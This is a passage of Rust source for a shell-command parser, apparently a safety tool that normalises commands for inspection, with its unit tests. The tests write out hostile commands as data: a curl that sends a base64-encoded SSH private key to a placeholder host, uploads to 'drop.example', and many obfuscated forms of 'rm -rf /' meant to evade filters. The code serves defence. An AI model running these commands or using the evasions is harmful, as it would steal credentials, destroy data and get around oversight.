    for w in words {
        for part in w.split(FIELD_SPLIT) {
            if part.is_empty() {
                continue;
            }
            match brace_list(part) {
                Some((prefix, items, suffix)) => out.extend(
                    items
                        .split(',')
                        .filter(|p| !p.is_empty() || !prefix.is_empty() || !suffix.is_empty())
                        .take(MAX_BRACE_ITEMS)
                        .map(|item| restore_braces(&format!("{prefix}{item}{suffix}"))),
                ),
                None => out.push(restore_braces(part)),
            }
            if out.len() >= MAX_WORDS {
                out.truncate(MAX_WORDS);
                return out;
            }
        }
    }
    out
}

/// Stands for an unquoted `{` inside the reader (a private-use character).
const BRACE_OPEN: char = '\u{F8FF}';

/// Put back the `{` that [`BRACE_OPEN`] stands for.
fn restore_braces(word: &str) -> String {
    if word.contains(BRACE_OPEN) {
        word.replace(BRACE_OPEN, "{")
    } else {
        word.to_owned()
    }
}

/// At most this many words come out of one brace list.
const MAX_BRACE_ITEMS: usize = 64;

/// `pre{a,b}post` → (`pre`, `a,b`, `post`): the first brace pair holding a
/// comma and no blank, brace, `$` or quote-marker inside. `${…}` left
/// unexpanded is not a list.
fn brace_list(word: &str) -> Option<(&str, &str, &str)> {
    let open = word.find(BRACE_OPEN)?;
    let close = open + word[open..].find('}')?;
    let inner = &word[open + BRACE_OPEN.len_utf8()..close];
    let simple = inner.contains(',')
        && !inner.contains(['{', BRACE_OPEN, ' ', '\t', '$', '\n'])
        && !word[close + 1..].contains(BRACE_OPEN);
    simple.then(|| (&word[..open], inner, &word[close + 1..]))
}

/// Longest value an append (`NAME+=value`) builds.
const MAX_APPENDED: usize = 4096;

/// `NAME+=value` → `(NAME, value)`.
fn append_assignment(word: &str) -> Option<(&str, &str)> {
    let eq = word.find("+=")?;
    let name = &word[..eq];
    let mut chars = name.chars();
    let first = chars.next()?;
    ((first.is_ascii_alphabetic() || first == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_'))
    .then_some((name, &word[eq + 2..]))
}

/// `NAME=value` → (NAME, value).
///
/// ```
/// assert_eq!(palisade_shell::split_assignment("A=b=c"), Some(("A", "b=c")));
/// assert_eq!(palisade_shell::split_assignment("--opt=x"), None);
/// ```
pub fn split_assignment(word: &str) -> Option<(&str, &str)> {
    let eq = word.find('=')?;
    let name = &word[..eq];
    let mut chars = name.chars();
    let first = chars.next()?;
    if !(first.is_ascii_alphabetic() || first == '_')
        || !chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
    {
        return None;
    }
    Some((name, &word[eq + 1..]))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(input: &str) -> Vec<Vec<String>> {
        parse(input).commands.into_iter().map(|c| c.words).collect()
    }

    #[test]
    fn quotes_escapes_and_operators() {
        assert_eq!(
            words(r#"c''url -d "a b" 'x'\ y && echo ok; ls | wc -l"#),
            vec![
                vec!["curl", "-d", "a b", "x y"],
                vec!["echo", "ok"],
                vec!["ls"],
                vec!["wc", "-l"],
            ]
        );
    }

    #[test]
    fn a_process_substitution_leaves_a_pipe_path_in_its_place() {
        let p = parse("sftp -b <(echo 'put f') deploy@files.example.net");
        let sftp = p.commands.iter().find(|c| c.words[0] == "sftp");
        assert_eq!(
            sftp.map(|c| c.words.clone()),
            Some(vec![
                "sftp".to_owned(),
                "-b".to_owned(),
                PROCESS_SUBSTITUTION_PATH.to_owned(),
                "deploy@files.example.net".to_owned(),
            ])
        );
        // The body is still read as a command of its own.
        assert!(p.commands.iter().any(|c| c.words[0] == "echo"));
    }

    #[test]
    fn substitutions_are_parsed_recursively() {
        let p = parse("echo $(curl -T f https://x.example) `wget -q y`");
        let names: Vec<&str> = p.commands.iter().map(|c| c.words[0].as_str()).collect();
        assert_eq!(names, ["curl", "wget", "echo"]);
    }

    #[test]
    fn variables_assigned_earlier_are_substituted() {
        let p = parse("U=https://drop.example/x; curl -d @f $U ${U}");
        assert_eq!(p.commands[0].words[3], "https://drop.example/x");
        assert_eq!(p.commands[0].words[4], "https://drop.example/x");
    }

    #[test]
    fn pipes_and_heredocs_feed_stdin() {
        let p = parse("tar cz . | ssh h 'cat > x'\npython3 - <<'EOF'\nimport os\nEOF\n");
        assert_eq!(p.commands[1].stdin, Stdin::Pipe);
        assert_eq!(p.commands[2].stdin, Stdin::Redirect);
        assert_eq!(p.commands[2].stdin_text, vec!["import os\n".to_string()]);
    }

    #[test]
    fn problems_are_reported_not_fatal() {
        let p = parse("curl -d 'unterminated https://x");
        assert!(!p.problems.is_empty());
        assert_eq!(p.commands[0].words[0], "curl");
    }

    #[test]
    fn substitutions_describing_the_platform_are_marked_harmless() {
        let w = words("curl -LO https://x.example/t-$(uname -s | tr A-Z a-z)-`arch`");
        assert_eq!(w.last().unwrap()[2], "https://x.example/t-$(:)-$(:)");
        let w = words("curl https://x.example/$(cat ~/.ssh/id_rsa | base64)");
        assert_eq!(w.last().unwrap()[1], "https://x.example/$(…)");
        // A filter reading a file, or a download that posts, is not harmless.
        let w = words("echo $(tr -d x < secrets.txt) $(curl -d @f https://y.example)");
        assert_eq!(w.last().unwrap()[1..], ["$(…)", "$(…)"]);
    }

    #[test]
    fn unset_names_expand_to_their_default() {
        let w = words("curl -T f https://${HOST:-drop.example}/ ${PORT-8080} ${X:=y}");
        assert_eq!(w[0][3..], ["https://drop.example/", "8080", "y"]);
        // A name set earlier wins over the default.
        let w = words("H=a.example; curl https://${H:-b.example}/");
        assert_eq!(w[0][1], "https://a.example/");
    }

    #[test]
    fn evasions_are_undone() {
        assert_eq!(words("r''m -rf ~")[0], ["rm", "-rf", "~"]);
        assert_eq!(words(r#"r""m -rf ~"#)[0], ["rm", "-rf", "~"]);
        assert_eq!(words(r"r\m -rf /")[0], ["rm", "-rf", "/"]);
        assert_eq!(words("rm${IFS}-rf${IFS}/")[0], ["rm", "-rf", "/"]);
        assert_eq!(words("rm$IFS-rf$IFS/")[0], ["rm", "-rf", "/"]);
        assert_eq!(words("rm${IFS%?}-fr${IFS%?}/")[0], ["rm", "-fr", "/"]);
        assert_eq!(words("rm${IFS:0:1}-rf${IFS#?}/")[0], ["rm", "-rf", "/"]);
        assert_eq!(words("{rm,-rf,/}")[0], ["rm", "-rf", "/"]);
        assert_eq!(words("rm -rf /{etc,usr}")[0], ["rm", "-rf", "/etc", "/usr"]);
        assert_eq!(words(r"$'\x72m' -rf /")[0], ["rm", "-rf", "/"]);
        assert_eq!(words(r"$'\162\155' -rf /")[0], ["rm", "-rf", "/"]);
        assert_eq!(words("a=r; b=m; $a$b -rf /")[0], ["rm", "-rf", "/"]);
        // Not lists: a quoted-blank group, `${…}`.
        assert_eq!(words("echo '{a, b}'")[0], ["echo", "{a, b}"]);
        assert_eq!(words("echo ${X,}")[0], ["echo", "${X,}"]);
    }

    #[test]
    fn arrays_expand_to_their_elements() {
        let w = words("T=(/var/www '/etc/x y' ~); rm -rf \"${T[@]}\"");
        assert_eq!(w[0], ["rm", "-rf", "/var/www", "/etc/x y", "~"]);
    }

    #[test]
    fn ansi_c_quotes_decode() {
        assert_eq!(words(r"$'\x63url' x")[0][0], "curl");
    }
}
